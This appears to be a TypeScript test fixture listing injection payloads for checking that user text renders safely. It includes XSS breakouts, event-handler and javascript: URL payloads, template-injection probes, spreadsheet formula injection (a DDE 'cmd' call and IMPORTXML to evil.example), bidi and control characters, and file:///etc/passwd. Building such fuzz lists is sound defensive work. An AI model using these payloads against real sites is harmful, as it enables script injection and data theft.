/** Texts that try to be more than text. Those that can run set `soakRan`, those that can load ask evil.example. */

const RUN = 'window.soakRan=(window.soakRan||0)+1';
const LOAD = 'http://evil.example/x';

const MARKUP = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `<ScRiPt src=//evil.example/x></ScRiPt>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${LOAD}">`,
  `"><img src=x onerror=${RUN}>`,
  `' onmouseover='${RUN}' autofocus onfocus='${RUN}' x='`,
  `" onclick="${RUN}" autofocus onfocus="${RUN}" x="`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x></svg>`,
  `<math><mtext><script>${RUN}</script></mtext></math>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="${LOAD}"></iframe>`,
  `<object data="${LOAD}"></object>`,
  `<embed src="${LOAD}">`,
  `<base href="http://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=${LOAD}">`,
  `<link rel=stylesheet href="${LOAD}">`,
  `<style>@import url(${LOAD});</style>`,
  `<style>*{background:url(${LOAD})}</style>`,
  `<div style="background:url(${LOAD})">`,
  `<form action="${LOAD}"><button>提交</button></form>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<a href="javascript:${RUN}">点我</a>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<!--<img src="--><img src=x onerror=${RUN}>">`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `＜script＞${RUN}＜/script＞`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
];

const TEMPLATES = [
  ...['{{constructor.constructor("soakRan=1")()}}', '${soakRan=1}', '<%= 1 %>', '#{1}', '{%raw%}'],
  ...['{soakRan=1}', '{...x}', '[[1]]', '@{1}', '<?php 1 ?>', '$$', '$&', "$'", '$`', '%s%n%d'],
  ...['`;soakRan=1;`', "';soakRan=1;//", '";soakRan=1;//', '\\";soakRan=1;//', '*/soakRan=1/*'],
];

const MARKDOWN = [
  ...[`![x](${LOAD})`, '[x](javascript:soakRan=1)', `<${LOAD}>`, `[x]: ${LOAD}`, '# 标题', '---'],
  ...['| a | b |', '```', '* * *', '> 引用', '~~x~~', '@everyone', 'www.evil.example', '<!-- x'],
];

const FORMULAS = [
  ...['=1+1', '=HYPERLINK("http://evil.example","x")', '+1+1', '-1+1', '@SUM(1)', '\t=1+1'],
  ...["=cmd|' /C calc'!A0", '＝1+1', '＋1', '"=1+1', ';=1+1', '=IMPORTXML("http://evil.example")'],
];

const SIGNS = [
  ...[
    '\u202e倒过来',
    '\u2066\u2067隔开',
    '\u200b零宽\u200d',
    '\ufeff标记',
    '\u00ad软连',
    '\u2028行',
  ],
  ...[
    '\u0007铃',
    '\u001b[31m红',
    '\u007f',
    '\u0085',
    '\ue000自用',
    '\ufffd',
    '\u{1f468}\u200d\u{1f469}',
  ],
  ...['e\u0301\u0301\u0301\u0301\u0301', '\u{e0001}标签', 'a\u0000b'],
];

const ADDRESSES = [
  ...[
    'javascript:soakRan=1',
    'JaVaScRiPt:soakRan=1',
    'java\tscript:soakRan=1',
    ' javascript:soakRan=1',
  ],
  ...['vbscript:x', 'data:text/html,<script>soakRan=1</script>', 'file:///etc/passwd', 'blob:x'],
  ...['//evil.example', '\\\\evil.example', 'http://user:pw@evil.example/', 'ftp://evil.example/'],
  ...['http:/\\evil.example', '../../x', '#x', '?x', 'mailto:x', 'https://evil.example/">x'],
];

const LONG = [
  '长'.repeat(2000),
  'W'.repeat(2000),
  '1'.repeat(500),
  '（'.repeat(500),
  ' '.repeat(500),
];

export const PAYLOADS: readonly string[] = [
  ...MARKUP,
  ...TEMPLATES,
  ...MARKDOWN,
  ...FORMULAS,
  ...SIGNS,
  ...ADDRESSES,
  ...LONG,
];
